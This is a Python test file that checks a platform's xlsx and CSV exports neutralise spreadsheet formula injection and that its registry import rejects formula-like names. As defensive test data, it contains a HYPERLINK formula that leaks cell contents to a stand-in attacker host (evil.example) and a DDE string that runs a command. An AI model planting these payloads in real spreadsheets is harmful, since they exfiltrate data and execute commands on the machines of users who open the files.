"""Defect 2 of issue 14: no spreadsheet the platform writes turns an applicant's text into a
live formula, and the registry import refuses such text.

Each export is downloaded through its real route; a formula-like name must come back as a
string cell with the quote prefix (openpyxl reads a live formula as data type "f"), or, in
CSV, behind an apostrophe."""
from __future__ import annotations

import io
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from smplatform.enums import DeclarationState
from smplatform.extensions import db
from smplatform.models import PublicNotice, RegistryEntry
from smplatform.rules.spreadsheet import csv_value, looks_like_formula
from tests.support import province as province_helpers
from tests.support import selection as selection_helpers

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'
PAYLOADS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def _cells(data: bytes):
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def _the_cell(data: bytes, text: str):
    found = [c for c in _cells(data) if c.value == text]
    assert len(found) == 1, [c.value for c in _cells(data)]
    return found[0]


def _is_text(cell) -> tuple:
    return (cell.data_type, bool(cell.quotePrefix))


@pytest.mark.parametrize("text", PAYLOADS + ["普通公司", "-", "1+1", "A=B"])
def test_rules_formula_like_text(text):
    expected = text.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert (looks_like_formula(text), csv_value(text) == "'" + text) == (expected, expected)


def test_rules_numbers_are_never_touched():
    assert (looks_like_formula(-5), csv_value(-5), csv_value(None)) == (False, -5, None)


def test_ministry_export_keeps_a_formula_name_as_text(app, make, login_as):
    batch = selection_helpers.make_batch()
    selection_helpers.declaration(batch, name=EVIL)
    client = login_as(make.ministry())
    response = client.get("/ministry/declarations/export.xlsx")
    assert response.status_code == 200
    assert _is_text(_the_cell(response.data, EVIL)) == ("s", True)


def test_published_export_keeps_a_formula_name_as_text(app, client):
    batch = selection_helpers.make_batch()
    selection_helpers.declaration(batch, name=EVIL, state=DeclarationState.PUBLISHED)
    db.session.add(PublicNotice(batch_id=batch.id, starts_on=date(2023, 8, 1),
                                ends_on=date(2023, 8, 7), created_at=datetime.now(UTC),
                                published_at=datetime.now(UTC)))
    db.session.commit()
    response = client.get("/published/5/export.xlsx")
    assert response.status_code == 200
    assert _is_text(_the_cell(response.data, EVIL)) == ("s", True)


def test_annex2_summary_keeps_a_formula_name_as_text(app, make, login_as, clock):
    clock.set(province_helpers.NOW)
    province_helpers.batch()
    declaration = province_helpers.declaration(state="passed", name=EVIL)
    client = login_as(make.province("440000"))
    assert client.post("/province/recommendations/add",
                       data={"declaration_id": declaration.id}).status_code == 303
    response = client.get("/province/summary.xlsx")
    assert response.status_code == 200
    assert _is_text(_the_cell(response.data, EVIL)) == ("s", True)


def test_annex2_workbook_keeps_formula_text_as_text():
    from smplatform.documents import annex2_xlsx
    data = annex2_xlsx.workbook([{"seq": 1, "applicant_name": EVIL, "remarks": "@x"}],
                                unit_name="=1+1")
    assert [_is_text(_the_cell(data, text)) for text in (EVIL, "@x")] == [("s", True)] * 2


def _registry_entry(name: str) -> None:
    db.session.add(RegistryEntry(batch_number=3, year=2021, category="enterprise", name=name,
                                 unit_code="440000", status="active",
                                 created_at=datetime.now(UTC), updated_at=datetime.now(UTC)))
    db.session.commit()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_registry_xlsx_export_keeps_formula_text_as_text(app, client, payload):
    _registry_entry(payload)
    response = client.get("/registry/export.xlsx")
    assert _is_text(_the_cell(response.data, payload)) == ("s", True)


def test_registry_csv_export_puts_an_apostrophe_before_formula_text(app, client):
    _registry_entry(EVIL)
    _registry_entry("-2+3")
    _registry_entry("广东示范企业")
    import csv
    text = client.get("/registry/export.csv").data.decode("utf-8-sig")
    names = sorted(row[3] for row in list(csv.reader(io.StringIO(text)))[1:])
    assert names == sorted(["'" + EVIL, "'-2+3", "广东示范企业"])


def test_registry_import_refuses_formula_text(app, make, login_as):
    client = login_as(make.ministry())
    client.post("/language", data={"lang": "en", "next": "/"})
    content = ("batch,category,name,credit_code,unit_code,city_code,class\n"
               f"3,enterprise,\"{EVIL.replace(chr(34), chr(34) * 2)}\",,440000,,\n"
               "3,enterprise,广东示范企业,,440000,,@evil\n").encode()
    response = client.post("/ministry/registry/import",
                           data={"file": (io.BytesIO(content), "registry.csv")})
    body = response.get_data(as_text=True)
    assert body.count("which spreadsheets read as a formula") == 2
    assert db.session.query(RegistryEntry).count() == 0
